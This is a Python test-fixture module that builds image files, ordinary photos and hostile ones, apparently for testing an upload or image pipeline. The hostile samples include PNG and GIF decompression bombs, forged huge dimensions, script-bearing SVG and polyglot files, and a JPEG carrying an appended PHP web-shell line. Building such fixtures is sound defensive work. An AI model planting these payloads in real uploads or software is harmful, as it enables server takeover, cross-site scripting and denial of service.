"""Files as people, and people with bad intentions, send them. All are made here."""

import struct
import zlib
from io import BytesIO

from PIL import Image, PngImagePlugin


def packed(image, kind="JPEG", **more):
    out = BytesIO()
    image.save(out, kind, **more)
    return out.getvalue()


def photo(width=1200, height=900, colour="teal", **more):
    return packed(Image.new("RGB", (width, height), colour), **more)


def two_halves(width=40, height=20):
    """Red on the left, blue on the right."""
    image = Image.new("RGB", (width, height), "red")
    image.paste("blue", (width // 2, 0, width, height))
    return image


def with_position(orientation=1):
    """A photo that says where and when it was taken, by whom, and how to hold it."""
    exif = Image.Exif()
    exif[0x010E], exif[0x0112] = "secretplace", orientation
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (53.0, 28.0, 1.0)
    more = {"comment": b"secretplace", "xmp": b"<x:xmpmeta>secretplace</x:xmpmeta>", "icc_profile": b"secretplace" * 20}
    return packed(two_halves(), quality=95, exif=exif, **more)


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, *chunks, depth=8, colour=2):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IEND", b"")


def png_bomb():
    """Twenty kilobytes that would unpack to a picture of four hundred million dots."""
    return png(20_000, 20_000, chunk(b"IDAT", zlib.compress(bytes(20_000_000), 9)))


def huge_header():
    """A few bytes that claim more dots than there is memory in the world."""
    return png(2**31 - 1, 2**31 - 1, chunk(b"IDAT", b""))


def text_bomb():
    """A picture whose comment unpacks to a hundred megabytes."""
    bomb = chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(100_000_000), 9))
    return png(2, 2, bomb, chunk(b"IDAT", zlib.compress(bytes(14))))


def with_words():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>secretplace</script>")
    return packed(Image.new("RGBA", (30, 20), (255, 0, 0, 128)), "PNG", pnginfo=info)


def moving():
    """A picture that moves: red, then blue."""
    frames = [Image.new("RGB", (30, 20), colour) for colour in ("red", "blue")]
    return packed(frames[0], "GIF", save_all=True, append_images=frames[1:])


def moving_giant():
    """A few bytes of a film on a canvas of 65,535 by 65,535."""
    whole = moving()
    return whole[:6] + struct.pack("<HH", 65_535, 65_535) + whole[10:]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

POLYGLOT = packed(Image.new("RGB", (30, 20)), "GIF") + b"/*<html><script>alert('secretplace')</script>*/"

TAIL = photo(60, 40) + b"PK\x03\x04 secretplace <?php system($_GET[1]); ?>"
